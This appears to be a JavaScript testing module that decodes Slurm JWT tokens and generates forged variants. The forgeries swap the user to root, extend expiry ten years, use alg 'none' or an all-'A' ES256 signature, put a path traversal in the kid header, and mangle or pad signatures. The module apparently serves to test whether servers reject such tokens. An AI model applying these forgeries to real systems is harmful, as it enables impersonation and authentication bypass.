// Takes tokens apart and changes them, as an attacker would. Nothing here checks a signature.

const HEADER = 0;
const PAYLOAD = 1;
const SIGNATURE = 2;
const TEN_YEARS = 10 * 365 * 24 * 3600;
const BASE64URL = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';

/** Returns the token in what people paste: the output of scontrol token, a header, line breaks. */
export function clean(text) {
  return text
    .trim()
    .replace(/^(export\s+)?SLURM_JWT=/, '')
    .replace(/^(Authorization:\s*)?Bearer\s+/i, '')
    .replace(/\s+/g, '');
}

/** Returns header and claims, unverified; null when this is no token at all. */
export function decode(token) {
  const parts = token.split('.');
  if (parts.length !== 3) {
    return null;
  }
  try {
    const header = readJson(parts[HEADER]);
    const claims = readJson(parts[PAYLOAD]);
    return isObject(header) && isObject(claims) ? { header, claims } : null;
  } catch {
    return null;
  }
}

/** The user by Slurm's rule, as far as a browser can tell: userclaimfield is the server's. */
export function userClaim(claims) {
  return ['sun', 'username'].find((name) => typeof claims[name] === 'string');
}

/** From the name of a change to the changed token; null where this token has nothing to change. */
export const changes = {
  'other-user': (parts) =>
    withClaims(parts, (claims) => ({ ...claims, [userClaim(claims) ?? 'sun']: 'root', name: 'root' })),
  later: (parts) => withClaims(parts, (claims) => ({ ...claims, exp: claims.exp + TEN_YEARS })),
  flipped: (parts) =>
    withSignature(parts, (parts[SIGNATURE][0] === 'A' ? 'B' : 'A') + parts[SIGNATURE].slice(1)),
  // A multiple of four characters is canonical base64url, so only its length is wrong.
  cut: (parts) => withSignature(parts, parts[SIGNATURE].slice(0, 20)),
  unsigned: (parts) => withSignature(parts, ''),
  none: (parts) => withSignature(withHeader(parts, { alg: 'none' }).split('.'), ''),
  'none-signed': (parts) => withHeader(parts, { alg: 'nOnE' }),
  psychic: (parts) => withSignature(withHeader(parts, { alg: 'ES256' }).split('.'), 'A'.repeat(86)),
  kid: (parts) => withHeader(parts, { kid: '../../../etc/hostname' }),
  'spare-bits': (parts) => spareBits(parts),
  'fourth-part': (parts) => parts.join('.') + '.e30',
  oversize: (parts) => parts.join('.') + 'A'.repeat(9000),
};

/** Applies a change by its name. */
export function change(token, name) {
  return changes[name](token.split('.'));
}

function withHeader(parts, members) {
  return [writeJson({ ...readJson(parts[HEADER]), ...members }), parts[PAYLOAD], parts[SIGNATURE]].join('.');
}

function withClaims(parts, edit) {
  return [parts[HEADER], writeJson(edit(readJson(parts[PAYLOAD]))), parts[SIGNATURE]].join('.');
}

function withSignature(parts, signature) {
  return [parts[HEADER], parts[PAYLOAD], signature].join('.');
}

function spareBits(parts) {
  const signature = parts[SIGNATURE];
  if (signature.length % 4 === 0) {
    return null;
  }
  const last = BASE64URL[BASE64URL.indexOf(signature.at(-1)) ^ 1];
  return withSignature(parts, signature.slice(0, -1) + last);
}

function readJson(part) {
  const bytes = Uint8Array.from(atob(part.replace(/-/g, '+').replace(/_/g, '/')), (c) => c.charCodeAt(0));
  return JSON.parse(new TextDecoder('utf-8', { fatal: true }).decode(bytes));
}

function writeJson(value) {
  const bytes = new TextEncoder().encode(JSON.stringify(value));
  return btoa(String.fromCharCode(...bytes)).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
}

function isObject(value) {
  return typeof value === 'object' && value !== null && !Array.isArray(value);
}
